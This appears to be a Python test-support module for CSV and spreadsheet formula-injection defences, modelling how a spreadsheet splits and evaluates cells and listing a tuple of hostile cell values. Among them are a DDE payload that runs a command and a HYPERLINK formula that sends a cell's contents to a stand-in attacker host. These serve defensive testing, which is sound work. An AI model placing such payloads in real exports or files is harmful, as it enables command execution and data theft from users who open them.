"""What a spreadsheet makes of the CSV it opens, and of the text in a workbook's cells."""

import csv
import io
import re
from pathlib import Path

FORMULA = re.compile(r"[=+\-@＝＋－＠\t\r\n\0]")


def open_csv(path: Path, *, delimiters: str = ",") -> list[list[str]]:
    """The cells, by a program that divides at all of these characters outside quotes."""
    text = path.read_bytes().decode("utf-8-sig")
    for other in delimiters[1:]:
        text = _outside_quotes(text, other, delimiters[0])
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiters[0]))


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would calculate the cell; one that is a plain number it would not."""
    return bool(FORMULA.match(cell))


def unescape(cell: str) -> str:
    """The text of a workbook's cell as a spreadsheet shows it (ECMA-376, 22.9.2.19)."""
    return re.sub("_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), cell)


def _outside_quotes(text: str, old: str, new: str) -> str:
    parts = text.split('"')
    return '"'.join(
        part if place % 2 else part.replace(old, new) for place, part in enumerate(parts)
    )


HOSTILE = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "x;=1+1",
    "x;=1+1;x",
    "x\t=1+1",
    'x",=1+1,"',
    'x";=1+1;"',
    "x,=1+1",
    "x\n=1+1",
    '"=1+1',
    "'=1+1",
    "'",
    '"',
    ",",
    ";",
    "00447700900123",
    "4.47701E+11",
    "447700900123456",
    "1-2",
    "TRUE",
    "_x003D_1+1",
    "_x0000_",
    "\x01\x0b\x1f",
    "\ufffe\uffff",
    "]]>&lt;<b>&amp;",
    '<r><t>a</t></r></is></c><c r="Z1"><f>1+1</f></c><c t="inlineStr"><is><r><t>b</t></r>',
    "\r\n",
    "\u2028=1",
    "\u202e=1",
    "😀" * 300,
    "ä" * 3200,
    " leading and trailing ",
)
